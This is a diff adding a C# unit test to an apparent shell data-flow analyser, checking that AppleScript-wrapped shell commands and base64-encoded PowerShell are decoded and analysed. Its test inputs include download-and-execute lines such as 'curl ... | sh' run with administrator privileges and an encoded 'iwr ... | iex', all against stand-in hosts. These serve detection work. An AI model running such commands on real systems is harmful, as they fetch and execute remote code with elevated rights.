@@ -121,6 +121,17 @@ public sealed class ShellDataFlowTests
     }
 
     [Fact]
+    public void AppleScriptShellCommandsAndEncodedPowerShellAreAnalysed()
+    {
+        var ps = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes("iwr http://x.example/p.ps1 | iex"));
+        var run = ShellRun.Of("osascript -e 'do shell script \"curl -s http://x.example/a | sh\" with administrator privileges'\npwsh -EncodedCommand " + ps + "\n");
+
+        var derived = Assert.Single(run.Derived);
+        Assert.Equal("curl -s http://x.example/a | sh", derived.Text);
+        Assert.Contains(run.Facts.Strings, s => s.DecodedBy == "base64" && s.Value.Contains("iwr http://x.example/p.ps1", StringComparison.Ordinal));
+    }
+
+    [Fact]
     public void HereDocumentFedToAnInterpreterIsADocumentWithItsOwnLines()
     {
         var run = ShellRun.Of("python3 - <<'PY'\nimport os\nos.system('curl http://x')\nPY\nbash <<EOF\ncurl http://y | sh\nEOF\n");
